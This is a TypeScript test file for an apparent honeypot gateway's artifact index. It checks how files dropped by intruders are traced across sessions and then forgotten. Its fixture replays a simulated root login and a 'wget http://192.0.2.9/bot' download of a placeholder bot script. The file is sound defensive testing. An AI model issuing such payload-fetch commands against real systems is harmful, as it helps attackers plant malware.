import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test, type TestContext } from "node:test";
import { extractEvidence } from "../../gateway/evidence/extract.ts";
import { sightingsOf, typeOf, witnessedFiles } from "../../gateway/index/artifacts.ts";
import { IndexReader } from "../../gateway/index/query.ts";
import { IndexStore } from "../../gateway/index/store.ts";
import { toByteString } from "../../gateway/model/bytes.ts";
import type { Capture } from "../../gateway/model/capture.ts";
import type { FileFact } from "../../gateway/model/file-facts.ts";
import type { SandboxId, SessionId } from "../../gateway/model/ids.ts";
import { Conversation } from "../evidence/conversation.ts";

const CONTENT = "#!/bin/sh\necho bot\n";
const SHA256 = createHash("sha256").update(CONTENT).digest("hex");
const [ONE, OTHER] = ["aaaaaaaaaaaa", "bbbbbbbbbbbb"] as [SessionId, SessionId];
const SANDBOX = "5a5a5a5a5a5a" as SandboxId;
const STARTED = Date.parse("2026-11-23T02:00:00Z") * 1000;

function fact(how: FileFact["how"], path: string, after: number): FileFact {
  const time = STARTED + after * 1e6;
  return {
    kind: "file",
    how,
    path: toByteString(Buffer.from(path, "latin1")),
    sha256: SHA256,
    size: CONTENT.length,
    time,
  };
}

async function put(index: IndexStore, session: SessionId, facts: readonly FileFact[]): Promise<void> {
  const talk = new Conversation(session, "2026-11-23T02:00:00.000000Z").hello();
  talk.password("root", "x", "accepted").leased();
  const exec = talk.open();
  talk.exec(exec, "wget http://192.0.2.9/bot").exits(exec, 0);
  for (const one of facts) talk.fact(one);
  const evidence = await extractEvidence(talk.whole());
  index.putFinished(`recordings/2026-11-23/${session}/session.mbr`, "ended", evidence);
}

function dataFolder(t: TestContext): string {
  const data = mkdtempSync(join(tmpdir(), "mitsubako-files-"));
  t.after(() => {
    rmSync(data, { recursive: true, force: true });
  });
  mkdirSync(join(data, "artifacts"));
  writeFileSync(join(data, "artifacts", SHA256), CONTENT);
  return data;
}

test("a content is known by all who had it, first to last, until they are forgotten", async (t) => {
  const data = dataFolder(t);
  using index = IndexStore.open(data);
  await put(index, ONE, [fact("run", "/tmp/bot", 1), fact("run-and-deleted", "/tmp/bot", 2)]);
  await put(index, OTHER, []);
  const capture: Capture = {
    ...{
      sandbox: SANDBOX,
      sessions: [ONE],
      source: "192.0.2.7",
      takenAt: "2026-11-23T03:00:00.000Z",
      cut: false,
    },
    changes: [{ kind: "A", path: "/root/\xff", type: "file", sha256: SHA256 }],
  };
  index.putCapture(ONE, 1, capture);
  const late = fact("deleted", "/tmp/other", 7200);
  index.putLateNetwork(OTHER, { facts: [{ at: late.time, sandbox: SANDBOX, fact: late }], unreadable: 0 });

  using reader = IndexReader.open(data);
  assert.ok(reader !== undefined);
  assert.deepEqual(
    sightingsOf(reader.ask, SHA256).map(({ at, how, session, path, url }) => [
      (at - STARTED) / 1e6,
      how,
      session,
      path,
      url,
    ]),
    [
      [1, "run", ONE, "/tmp/bot", "http://192.0.2.9/bot"],
      [2, "run-and-deleted", ONE, "/tmp/bot", "http://192.0.2.9/bot"],
      [3600, "captured", ONE, "/root/\xff", undefined],
      [7200, "deleted", OTHER, "/tmp/other", undefined],
    ],
  );
  assert.deepEqual(typeOf(reader.ask, SHA256), { type: "script", detail: "sh", size: CONTENT.length });
  assert.deepEqual(
    witnessedFiles(reader.ask).map(({ id }) => id),
    [`${ONE}.w0`, `${ONE}.w1`, `${OTHER}.l0`],
  );
  assert.equal(witnessedFiles(reader.ask, { session: OTHER }).length, 1);
  assert.equal(witnessedFiles(reader.ask, { since: STARTED + 60e6 }).length, 1);
  assert.equal(witnessedFiles(reader.ask, { source: "198.51.*" }).length, 0);

  index.forget(ONE);
  assert.deepEqual(
    sightingsOf(reader.ask, SHA256).map(({ session }) => session),
    [OTHER],
  );
  assert.ok(typeOf(reader.ask, SHA256) !== undefined, "somebody still had it");
  index.forget(OTHER);
  assert.deepEqual(sightingsOf(reader.ask, SHA256), []);
  assert.equal(typeOf(reader.ask, SHA256), undefined);
});

test("a session that is told as it grows says the same as one that is told whole", async (t) => {
  const facts = [fact("run", "/tmp/a", 1), fact("deleted", "/tmp/b", 2), fact("deleted", "/tmp/c", 3)];
  const whole = dataFolder(t);
  using one = IndexStore.open(whole);
  await put(one, ONE, facts);
  const grown = dataFolder(t);
  using other = IndexStore.open(grown);
  const talk = new Conversation(ONE, "2026-11-23T02:00:00.000000Z").hello().leased();
  for (const each of facts) talk.fact(each);
  const { summary, observations } = await extractEvidence(talk.whole());
  for (const observation of observations) other.putLive("live/0/x", summary, [observation]);
  const rows = (data: string) => {
    using reader = IndexReader.open(data);
    return reader === undefined ? [] : witnessedFiles(reader.ask).map(({ id, how, path }) => [id, how, path]);
  };
  assert.equal(rows(grown).length, 3);
  assert.deepEqual(rows(grown), rows(whole));
});
